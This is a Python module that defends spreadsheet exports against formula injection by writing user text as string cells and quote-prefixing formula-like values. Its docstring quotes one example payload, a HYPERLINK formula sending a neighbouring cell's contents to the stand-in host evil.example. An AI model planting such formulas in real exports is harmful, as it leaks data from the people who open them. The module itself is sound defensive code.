"""One way into every spreadsheet the platform writes (xlsx and CSV exports).

Titles, names and notes come from users, and a spreadsheet program runs a cell that looks
like a formula: ``=HYPERLINK("http://evil.example/?leak="&B2,"Open")`` would send the row's
neighbours away when clicked. So text is never a formula:

* xlsx: every string is written as a string cell (data type ``s``), whatever it starts with;
  one that starts like a formula is also marked quote-prefixed, so that editing it in Excel
  keeps it text. Characters XML cannot hold (control characters) are left out.
* CSV: a string starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading single quote (the OWASP advice for CSV injection).

Numbers, dates and Decimals that the platform itself writes stay numbers and dates.
"""
from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def row(values, sheet=None) -> list:
    """The cells of one row: CSV text when ``sheet`` is None, else openpyxl cells of
    ``sheet`` (for ``sheet.append``)."""
    return [_xlsx_cell(sheet, v) for v in values] if sheet is not None else [_csv_cell(v) for v in values]


def _csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, (int, float)):
        return str(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def _xlsx_cell(sheet, value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    if value is None or isinstance(value, (bool, int, float, Decimal, date, datetime)):
        return Cell(sheet, value=value)
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    cell = Cell(sheet)
    cell._value, cell.data_type = text, "s"  # never bound as a formula, whatever it starts with
    if text.startswith(FORMULA_START):
        cell.quotePrefix = True
    return cell
